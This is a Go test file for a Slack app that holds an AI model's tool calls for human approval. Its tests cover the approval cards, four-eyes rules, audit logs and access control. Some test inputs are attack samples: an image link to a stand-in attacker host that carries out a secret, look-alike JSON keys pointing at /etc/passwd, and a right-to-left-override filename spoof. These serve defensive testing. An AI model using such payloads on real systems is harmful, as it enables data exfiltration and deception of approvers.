package slackapp_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/toolgate/toolgate/approvals"
	"github.com/toolgate/toolgate/internal/fakeopenai"
	"github.com/toolgate/toolgate/internal/fakeslack"
	"github.com/toolgate/toolgate/slackapp"
	"github.com/toolgate/toolgate/store"
)

// reencoded reports whether rendered blocks show arguments re-encoded with
// HTML escapes: a `\u003c` written into the text itself arrives in the
// blocks' JSON as `\\u003c`.
func reencoded(blocks []byte) bool {
	return strings.Contains(string(blocks), `\\u00`)
}

// The bytes shown are the bytes run: '<', '>' and '&' in arguments survive
// the store and a restart, on the card after a decision, in App Home and in
// what the tool receives.
func TestArgumentBytesSurviveARestart(t *testing.T) {
	for _, kind := range storeKinds(t) {
		t.Run(kind.name, func(t *testing.T) {
			e := newEnv(t, kind)
			e.start()
			const args = `{"service":"a<b","version":"1 && 2>1"}`
			e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", args)))
			ts := e.slack.Mention(channel, requester, "deploy")
			card := e.card(ts, "deploy")
			e.restart()

			e.slack.OpenHome(approver)
			var home fakeslack.View
			waitUntil(t, "the approver's Home tab is published", func() bool {
				var ok bool
				home, ok = e.slack.HomeView(approver)
				return ok
			})
			if reencoded(home.JSON) || !strings.Contains(viewText(home), "1 &amp;&amp; 2&gt;1") {
				t.Errorf("App Home does not show the arguments as written: %s", home.JSON)
			}

			e.model.Reply(fakeopenai.Text("deployed after the restart"))
			_, err := e.slack.Click(approver, channel, card.TS, slackapp.ActionApprove, "")
			must(t, err)
			e.answer(ts, "deployed after the restart")
			if got := e.deployArgs(); len(got) != 1 || got[0] != args {
				t.Errorf("deploy ran with %q, want exactly %q", got, args)
			}
			updated, _ := e.slack.Message(channel, card.TS)
			if reencoded(updated.Blocks) || !strings.Contains(blocksText(updated), "a&lt;b") {
				t.Errorf("the decided card does not show the arguments as written: %s", updated.Blocks)
			}
		})
	}
}

// Hidden characters in arguments are written out on the card with a
// warning; the tool gets the exact characters approved.
func TestHiddenCharactersShownOnTheCard(t *testing.T) {
	e := newEnv(t, storeKinds(t)[0])
	e.start()
	const args = "{\"service\":\"reports/\u202evsc.exe\",\"version\":\"\u200b1\"}"
	e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", args)), fakeopenai.Text("Deployed."))
	ts := e.slack.Mention(channel, requester, "deploy")
	card := e.card(ts, "deploy")
	text := blocksText(card)
	for _, want := range []string{"reports/⟦U+202E⟧vsc.exe", "⟦U+200B⟧1", "2 hidden character(s)"} {
		if !strings.Contains(text, want) {
			t.Errorf("the card does not show %q: %s", want, text)
		}
	}
	if strings.ContainsAny(text, "\u202e\u200b") {
		t.Errorf("the card carries the hidden characters themselves: %q", text)
	}
	_, err := e.slack.Click(approver, channel, card.TS, slackapp.ActionApprove, "")
	must(t, err)
	e.answer(ts, "Deployed.")
	if got := e.deployArgs(); len(got) != 1 || got[0] != args {
		t.Errorf("deploy ran with %q, want exactly %q", got, args)
	}
}

// Keys that differ only by Unicode normalisation, or that mix look-alike
// scripts, are refused like duplicate keys: the tool does not run and the
// model is told why.
func TestLookAlikeKeysRefused(t *testing.T) {
	tests := []struct {
		name, args, want string
	}{
		{"normalisation", "{\"path\":\"a\",\"caf\u00e9\":1,\"cafe\u0301\":2}", "differ only by Unicode normalisation"},
		{"full width", "{\"path\":\"a\",\"\uff50\uff41\uff54\uff48\":\"/etc/passwd\"}", "differ only by Unicode normalisation"},
		{"mixed scripts", "{\"path\":\"a\",\"p\u0430th\":\"/etc/passwd\"}", "mixes letters of Latin and Cyrillic"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, storeKinds(t)[0])
			e.start()
			e.model.Reply(fakeopenai.ToolCalls(tc("c1", "read_file", tt.args)), fakeopenai.Text("I will fix the keys."))
			ts := e.slack.Mention(channel, requester, "read it")
			e.answer(ts, "I will fix the keys.")
			res := toolResults(e.request(2))
			if len(res) != 1 || !strings.Contains(res[0].Content, tt.want) {
				t.Errorf("the model was told %v, want a tool error containing %q", res, tt.want)
			}
			if n := e.reads.Load(); n != 0 {
				t.Errorf("read_file ran %d times with look-alike keys, want 0", n)
			}
		})
	}
}

// Four eyes counts every asker: a call made by a turn that answers several
// people's messages cannot be approved by any of them, and the card names
// them all.
func TestFourEyesCountsEveryAsker(t *testing.T) {
	for _, kind := range storeKinds(t) {
		t.Run(kind.name, func(t *testing.T) {
			e := newEnv(t, kind)
			e.start()
			e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", `{"service":"api","version":"1"}`)), fakeopenai.Text("Deployed api 1."),
				fakeopenai.ToolCalls(tc("c2", "deploy", `{"service":"api","version":"2"}`)), fakeopenai.Text("Deployed api 2."))
			ts := e.slack.Mention(channel, requester, "deploy api 1")
			card1 := e.card(ts, "deploy")

			// While the thread waits, the approver asks for another deploy
			// and the requester says thanks: the next turn answers both.
			e.slack.ThreadReply(channel, ts, approver, "deploy api 2 as well")
			e.answer(ts, "waiting on approval")
			e.slack.ThreadReply(channel, ts, requester, "thanks")
			waitUntil(t, "both follow-ups are queued", func() bool {
				n := 0
				for _, m := range e.slack.Thread(channel, ts) {
					if m.BotID != "" && strings.Contains(m.Text, "waiting on approval") {
						n++
					}
				}
				return n == 2
			})
			_, err := e.slack.Click(other, channel, card1.TS, slackapp.ActionApprove, "")
			must(t, err)
			e.answer(ts, "Deployed api 1.")
			var card2 fakeslack.Message
			waitUntil(t, "a second card", func() bool {
				cards := e.cards(channel, ts)
				for _, c := range cards {
					if c.TS != card1.TS {
						card2 = c
						return true
					}
				}
				return false
			})
			if text := blocksText(card2); !strings.Contains(text, "Requested by <@"+approver+">, <@"+requester+">") {
				t.Errorf("the second card does not name both askers: %s", text)
			}
			e.restart() // the askers are stored with the call
			_, err = e.slack.Click(approver, channel, card2.TS, slackapp.ActionApprove, "")
			must(t, err)
			e.ephemeral(approver, "second pair of eyes")
			if n := e.deploy.Load(); n != 1 {
				t.Fatalf("deploy ran %d times after an asker approved their own call, want 1", n)
			}
			_, err = e.slack.Click(other, channel, card2.TS, slackapp.ActionApprove, "")
			must(t, err)
			e.answer(ts, "Deployed api 2.")
			if n := e.deploy.Load(); n != 2 {
				t.Errorf("deploy ran %d times, want 2", n)
			}
		})
	}
}

// syncBuffer is a log sink safe for the bot's goroutines.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// The audit of an edited call names the channel, the thread, the decision
// and the fingerprint of the arguments that ran; every entry is also one
// msg=audit log line; /approvals audit is for admins, shows each field once
// and puts user-supplied text in code spans.
func TestAuditOfAnEditedCall(t *testing.T) {
	e := newEnv(t, storeKinds(t)[0])
	logs := &syncBuffer{}
	e.cfg.Logger = slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelInfo}))
	e.cfg.AdminUsers = []string{other}
	e.start()
	e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", `{"service":"api","version":"1.0.0"}`)), fakeopenai.Text("Deployed the edited version."))
	ts := e.slack.Mention(channel, requester, "deploy")
	card := e.card(ts, "deploy")
	_, err := e.slack.Click(approver, channel, card.TS, slackapp.ActionEdit, "")
	must(t, err)
	view := e.modal(approver, slackapp.CallbackEdit)
	const edited = `{"service":"api","version":"1.0.1"}`
	_, err = e.slack.SubmitView(approver, view.ID, map[string]map[string]string{slackapp.BlockEditArgs: {slackapp.ActionEditArgs: edited}}, "")
	must(t, err)
	e.answer(ts, "Deployed the edited version.")

	_, original, _ := approvals.Fingerprint(json.RawMessage(`{"service":"api","version":"1.0.0"}`))
	_, ran, _ := approvals.Fingerprint(json.RawMessage(edited))
	var line string
	waitUntil(t, "the execution is logged", func() bool {
		for _, l := range strings.Split(logs.String(), "\n") {
			if strings.Contains(l, "msg=audit") && strings.Contains(l, "action=execute") {
				line = l
				return true
			}
		}
		return false
	})
	for _, want := range []string{"fingerprint=" + ran, "decision=edit", "channel=" + channel, "tool=deploy", "actor=" + approver, "outcome=ok"} {
		if !strings.Contains(line, want) {
			t.Errorf("the audit log line does not contain %q: %s", want, line)
		}
	}

	wantIn(t, "audit by a non-admin", e.slash(stranger, "audit"), "Only admins can read the audit log")
	audit := e.audit(other, "`execute`")
	var exec string
	for _, l := range strings.Split(audit, "\n") {
		if strings.Contains(l, "`execute`") {
			exec = l
		}
	}
	for _, want := range []string{"by <@" + approver + ">", "tool `deploy`", "in <#" + channel + "> thread `" + ts + "`", "args `" + ran[:12] + "`", "decision `edit`", "outcome `ok`"} {
		if !strings.Contains(exec, want) {
			t.Errorf("the audit line of the execution does not contain %q: %s", want, exec)
		}
	}
	if strings.Contains(exec, original[:12]) {
		t.Errorf("the execution is audited with the original arguments' fingerprint: %s", exec)
	}
	if n := strings.Count(exec, "edit"); n != 1 {
		t.Errorf("the audit line names the decision %d times: %s", n, exec)
	}
}

// A conversation in a group DM carries on with a follow-up in its thread,
// as in a channel.
func TestGroupDMFollowUp(t *testing.T) {
	e := newEnv(t, storeKinds(t)[0])
	const group = "GMPIM00001"
	e.slack.AddGroupDM(group, requester, approver, e.slack.BotUserID())
	e.start()
	e.model.Reply(fakeopenai.Text("Hello, both of you."), fakeopenai.Text("Here is the follow-up."))
	ts := e.slack.Mention(group, requester, "hi")
	e.answerIn(group, ts, "Hello, both of you.")
	e.slack.ThreadReply(group, ts, approver, "and one more thing")
	e.answerIn(group, ts, "Here is the follow-up.")
	if req := e.request(2); !strings.Contains(req.Messages[len(req.Messages)-1].Content, "one more thing") {
		t.Errorf("the follow-up did not reach the model: %+v", req.Messages)
	}
}

// A forged or garbled button value is told it is not a valid request; a
// well-formed one for a call that is gone is told the call is unknown.
func TestForgedButtonValue(t *testing.T) {
	e := newEnv(t, storeKinds(t)[0])
	e.start()
	e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", `{"service":"api","version":"9"}`)))
	ts := e.slack.Mention(channel, requester, "deploy")
	card := e.card(ts, "deploy")
	for _, action := range []string{slackapp.ActionApprove, slackapp.ActionEdit, slackapp.ActionCancel} {
		_, err := e.slack.Click(approver, channel, card.TS, action, "garbage~x")
		must(t, err)
	}
	waitUntil(t, "every forged click is answered", func() bool {
		n := 0
		for _, m := range e.slack.Ephemerals(approver) {
			if strings.Contains(m.Text, "not a valid request") {
				n++
			}
		}
		return n == 3
	})
	gone := "0123456789abcdef.0~" + strings.Repeat("ab", 32)
	_, err := e.slack.Click(other, channel, card.TS, slackapp.ActionApprove, gone)
	must(t, err)
	if m := e.ephemeral(other, "I don't know this request"); strings.Contains(m.Text, "not a valid request") {
		t.Errorf("a well-formed unknown call was called invalid: %q", m.Text)
	}
	if n := e.deploy.Load(); n != 0 {
		t.Errorf("deploy ran %d times on forged clicks", n)
	}
}

// Who may see a call: someone who can neither see its conversation nor
// decide it gets no full-arguments view and no decision form.
func TestOutsidersSeeNoCall(t *testing.T) {
	const private = "CPRIVATE03"
	e := newEnv(t, storeKinds(t)[0])
	e.policy = "policy:\n  default: ask\n" // deploys ask anyone in the conversation
	e.slack.AddChannel(fakeslack.Channel{ID: private, Name: "secret", Private: true, Members: []string{requester, other, e.slack.BotUserID()}})
	e.start()
	long := strings.Repeat("9", 3500)
	e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", `{"service":"vault","version":"`+long+`"}`)))
	ts := e.slack.Mention(private, requester, "deploy vault")
	card := e.cardIn(private, ts, "deploy")

	for _, action := range []string{slackapp.ActionViewArgs, slackapp.ActionReject, slackapp.ActionEdit} {
		_, err := e.slack.Click(stranger, private, card.TS, action, "")
		must(t, err)
	}
	waitUntil(t, "the outsider is answered three times", func() bool {
		// Not in the channel, the outsider is answered by DM.
		n := 0
		for _, m := range e.slack.Messages(e.slack.DMChannel(stranger)) {
			if strings.Contains(m.Text, "conversation you are not part of") {
				n++
			}
		}
		return n == 3
	})
	if open := e.slack.OpenModals(stranger); len(open) != 0 {
		t.Errorf("a form or view opened for someone outside the conversation: %+v", open)
	}
	ack, err := e.slack.Slash(stranger, private, "/approvals", "pending")
	must(t, err)
	if strings.Contains(string(ack), "vault") || !strings.Contains(string(ack), "Nothing is waiting") {
		t.Errorf("/approvals pending shows the call to an outsider: %s", ack)
	}
	ack, err = e.slack.Slash(other, private, "/approvals", "pending")
	must(t, err)
	if !strings.Contains(string(ack), "1 call(s) waiting") {
		t.Errorf("/approvals pending does not show the call to a member: %s", ack)
	}
	_, err = e.slack.Click(other, private, card.TS, slackapp.ActionViewArgs, "")
	must(t, err)
	view := e.modal(other, slackapp.CallbackViewArgs)
	if !strings.Contains(viewText(view), long[:100]) {
		t.Errorf("the full arguments are not shown to a member of the conversation: %s", view.JSON)
	}
}

// "Always allow these arguments here" allows only calls with exactly those
// arguments; its creator sees it in App Home and revokes it there, and
// nobody else but an admin may revoke it.
func TestAlwaysAllowExactArguments(t *testing.T) {
	for _, kind := range storeKinds(t) {
		t.Run(kind.name, func(t *testing.T) {
			e := newEnv(t, kind)
			e.policy = "policy:\n  default: ask\n" // deploys ask anyone in the channel
			e.start()
			const args = `{"service":"api","version":"7"}`
			e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", args)), fakeopenai.Text("Deployed 7."))
			ts := e.slack.Mention(channel, requester, "deploy 7")
			card := e.card(ts, "deploy")
			_, err := e.slack.Click(approver, channel, card.TS, slackapp.ActionRememberExact, "")
			must(t, err)
			e.answer(ts, "Deployed 7.")

			// The same arguments run at once; others ask.
			e.model.Reply(fakeopenai.ToolCalls(tc("c2", "deploy", args)), fakeopenai.Text("Deployed 7 again."))
			ts2 := e.slack.Mention(channel, requester, "deploy 7 again")
			e.answer(ts2, "Deployed 7 again.")
			if cards := e.cards(channel, ts2); len(cards) != 0 {
				t.Errorf("the same arguments asked again:\n%s", dumpThread(cards))
			}
			e.model.Reply(fakeopenai.ToolCalls(tc("c3", "deploy", `{"service":"api","version":"8"}`)))
			ts3 := e.slack.Mention(channel, requester, "deploy 8")
			e.card(ts3, "deploy")

			rules := e.slash(stranger, "rules list")
			m := regexp.MustCompile("• `([^`]+)`: `deploy` allowed, by <@" + approver + "> for exactly the arguments").FindStringSubmatch(rules)
			if m == nil {
				t.Fatalf("rules list does not show the exact-arguments rule:\n%s", rules)
			}
			wantIn(t, "rules revoke by someone else", e.slash(stranger, "rules revoke "+m[1]), "Only <@"+approver+">", "Nothing changed")

			home := e.home(approver)
			wantIn(t, "the creator's Home tab", viewText(home), "Your standing rules* (1)", "for exactly the arguments", `"action_id":"`+slackapp.ActionRevokeRule+`"`)
			_, err = e.slack.ClickInView(approver, home.ID, slackapp.ActionRevokeRule, "")
			must(t, err)
			waitUntil(t, "the Home tab no longer lists the rule", func() bool {
				v, _ := e.slack.HomeView(approver)
				return strings.Contains(viewText(v), "Your standing rules* (0)")
			})

			// Revoked, the same arguments ask again.
			e.model.Reply(fakeopenai.ToolCalls(tc("c4", "deploy", args)))
			ts4 := e.slack.Mention(channel, requester, "deploy 7 once more")
			e.card(ts4, "deploy")
			if n := e.deploy.Load(); n != 2 {
				t.Errorf("deploy ran %d times, want 2", n)
			}
		})
	}
}

// No message the bot posts has its links unfurled: Slack would fetch a
// link of model-written text from its servers (an image link can carry
// data out) and show a preview the model chose.
func TestPostsAreNotUnfurled(t *testing.T) {
	e := newEnv(t, storeKinds(t)[0])
	e.start()
	const link = "https://attacker.example/p.png?d=SECRET"
	e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", `{"service":"`+link+`","version":"1"}`)), fakeopenai.Text("Deployed, see "+link))
	ts := e.slack.Mention(channel, requester, "deploy")
	card := e.card(ts, "deploy")
	_, err := e.slack.Click(approver, channel, card.TS, slackapp.ActionApprove, "")
	must(t, err)
	e.answer(ts, "Deployed, see")
	posted := 0
	for _, m := range e.slack.Thread(channel, ts) {
		if m.BotID == "" || m.Streamed {
			continue
		}
		posted++
		if m.Unfurls {
			t.Errorf("message %s is posted with its links unfurled: %s", m.TS, m.Text)
		}
	}
	if posted == 0 {
		t.Fatal("the bot posted no message with chat.postMessage")
	}
}

// unwritableRules is a store whose policy records (standing rules) cannot
// be written.
type unwritableRules struct{ fullStore }

func (unwritableRules) PutRecord(context.Context, store.Record, int64) (store.Record, error) {
	return store.Record{}, errors.New("injected: records unwritable")
}

// "Always allow" whose standing rule cannot be saved approves the call, and
// tells the approver that later calls will still ask.
func TestAlwaysAllowWhoseRuleCannotBeSaved(t *testing.T) {
	e := newEnv(t, storeKinds(t)[0])
	e.policy = strings.Replace(e2ePolicy, "      four_eyes: true\n", "", 1)
	open := e.open
	e.open = func() fullStore { return unwritableRules{open()} }
	e.start()
	e.model.Reply(fakeopenai.ToolCalls(tc("c1", "deploy", `{"service":"api","version":"8"}`)), fakeopenai.Text("Deployed api 8."))
	ts := e.slack.Mention(channel, requester, "deploy api 8")
	card := e.card(ts, "deploy")
	_, err := e.slack.Click(approver, channel, card.TS, slackapp.ActionRemember, "")
	must(t, err)
	e.answer(ts, "Deployed api 8.")
	e.ephemeral(approver, "couldn't save the rule")
	// The thread sees it too: the card does not say calls like it are
	// allowed from now on.
	updated, _ := e.slack.Message(channel, card.TS)
	if text := blocksText(updated); strings.Contains(text, "from now on") || !strings.Contains(text, "no rule allows calls like it now") {
		t.Errorf("the card of an Always allow whose rule was not saved says:\n%s", text)
	}
}
